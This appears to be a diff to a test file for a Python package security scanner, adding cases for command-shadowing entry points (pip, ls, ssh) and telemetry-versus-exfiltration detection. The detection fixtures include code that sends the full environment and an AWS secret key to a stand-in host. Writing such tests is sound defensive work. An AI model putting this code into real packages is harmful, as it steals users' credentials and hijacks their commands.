@@ -148,17 +148,18 @@ PY
 	refute_output --regexp '^(high|critical)$'
 }
 
-@test "a console script named like the user's command (pip, ls, sudo) pointing elsewhere is CommandShadowing" {
+@test "a console script named like the user's command (pip, ls, sudo) pointing elsewhere is CommandShadowing (the pattern's back-reference matches)" {
 	mkdir -p p/shadow
 	cat > p/setup.py <<'PY'
 from setuptools import setup
 setup(name="shadow", version="1.0", packages=["shadow"],
       entry_points={"console_scripts": ["pip=shadow.main:run", "ls = shadow.main:run",
-                                        "sudo3=shadow:run", "python3.12=shadow.x:y"]})
+                                        "sudo3=shadow:run", "python3.12=shadow.x:y",
+                                        "ssh=git.shadow:run"]})
 PY
 	: > p/shadow/__init__.py
 	run hits p CommandShadowing
-	assert_output "$(printf '%s\n' 'setup.py 3 install 100' 'setup.py 4 install 100')"
+	assert_output "$(printf '%s\n' 'setup.py 3 install 100' 'setup.py 4 install 100' 'setup.py 5 install 100')"
 	run risk p
 	assert_output --regexp '^(high|critical)$'
 }
@@ -219,4 +220,48 @@ def d(event):
 PY
 	run tagged p NetworkRequest opt-in
 	assert_output ''
+}
+
+@test "opt-in telemetry: platform facts sent only under an environment switch weigh the flow's opt_in" {
+	mkdir -p p/tele
+	cat > p/tele/__init__.py <<'PY'
+import os, json, platform, urllib.request
+def send_usage(event):
+    if os.environ.get("TELE_TELEMETRY", "0") != "1":
+        return
+    body = json.dumps({"event": event, "python": platform.python_version()}).encode()
+    urllib.request.urlopen("https://telemetry.tele.dev/v1/events", data=body, timeout=2)
+def send_os():
+    if os.getenv("TELE_STATS"):
+        urllib.request.urlopen("https://telemetry.tele.dev/v1/os", data=platform.platform().encode())
+PY
+	run hits p Exfiltration
+	assert_output "$(printf '%s\n' 'tele/__init__.py 6 function 2' 'tele/__init__.py 9 function 2')"
+	run tagged p Exfiltration opt-in
+	assert_output "$(printf '%s\n' 'tele/__init__.py 6' 'tele/__init__.py 9')"
+	run risk p
+	assert_output --regexp '^(info|low)$'
+}
+
+@test "look-alike: a secret or the environment under the switch, or platform facts without one, is exfiltration in full" {
+	mkdir -p p/tele
+	cat > p/tele/__init__.py <<'PY'
+import os, json, platform, urllib.request
+def a():
+    if not os.environ.get("TELE_TELEMETRY"):
+        return
+    urllib.request.urlopen("https://telemetry.tele.dev/a", data=json.dumps(dict(os.environ)).encode())
+def b():
+    if not os.environ.get("TELE_TELEMETRY"):
+        return
+    urllib.request.urlopen("https://telemetry.tele.dev/b", data=(platform.node() + os.environ["AWS_SECRET_ACCESS_KEY"]).encode())
+def c():
+    urllib.request.urlopen("https://telemetry.tele.dev/c", data=platform.platform().encode())
+PY
+	run hits p Exfiltration
+	assert_output "$(printf '%s\n' 'tele/__init__.py 11 function 100' 'tele/__init__.py 5 function 100' 'tele/__init__.py 9 function 100')"
+	run tagged p Exfiltration opt-in
+	assert_output ''
+	run risk p
+	assert_output --regexp '^(high|critical)$'
 }
